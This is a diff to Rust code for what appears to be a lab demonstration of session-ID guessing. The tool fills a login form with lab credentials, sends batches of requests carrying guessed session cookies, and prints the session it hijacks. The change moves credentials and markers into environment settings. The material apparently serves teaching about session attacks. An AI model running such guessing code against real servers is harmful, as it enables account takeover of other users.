@@ -202,13 +202,20 @@ fn cookies_of(page: &Response) -> String {
 /// Returns the login form of a page, filled in.
 fn form_of(page: &Response) -> String {
     let token = page.form_token().unwrap_or_default();
-    format!("username=admin&password=123&_xsrf={token}")
+    let (user, password) = (setting("LAB_USER", "admin"), setting("LAB_PASSWORD", "123"));
+    format!("username={user}&password={password}&_xsrf={token}")
 }
 
-/// Returns the first cookie that is not an XSRF token.
+/// Returns the session cookie that a response sets.
 fn session_cookie(page: &Response) -> Option<(String, String)> {
-    let mut others = page.cookies().filter(|(name, _)| !name.contains("xsrf"));
-    others.next().map(|(name, value)| (name.to_owned(), value.to_owned()))
+    let wanted = setting("LAB_COOKIE", "session_id");
+    let (name, value) = page.cookies().find(|(name, _)| *name == wanted)?;
+    Some((name.to_owned(), value.to_owned()))
+}
+
+/// Returns what the environment says about a server of the reader, as `lib.sh` does.
+fn setting(name: &str, default: &str) -> String {
+    std::env::var(name).unwrap_or_else(|_| default.to_owned())
 }
 
 /// Prints what the attacker has got.
@@ -291,7 +298,7 @@ fn try_ids(target: &Target, name: &str, between: &Range<u64>) -> io::Result<bool
         Some((cookie, page)) => {
             println!("  after {:.1} s, this one opens the page:", seconds(began));
             println!(
-                "  > GET /main HTTP/1.1\n  > Cookie: {cookie}\n  < HTTP/1.1 200 OK\n  < {page}"
+                "  > GET /main HTTP/1.1\n  > Cookie: {cookie}\n  < HTTP/1.1 200 OK\n  < ... {page}"
             );
             println!(
                 "\nThis is the user's session. The attacker has never seen its cookie."
@@ -313,12 +320,11 @@ fn try_batch(
         .map(|cookies| Request { path: "/main", cookies, form: None })
         .collect();
     connection.send(&requests)?;
-    let mut found = None;
+    let (mut found, text) = (None, setting("LAB_MAIN", "this is main page"));
     for cookie in cookies {
         let response = connection.read()?;
         let mut lines = response.content.lines().map(str::trim);
-        if response.status == 200 {
-            let line = lines.find(|line| line.contains("main page")).unwrap_or_default();
+        if let Some(line) = lines.find(|line| line.contains(&text)) {
             found = Some((cookie.clone(), line.to_owned()));
         }
     }
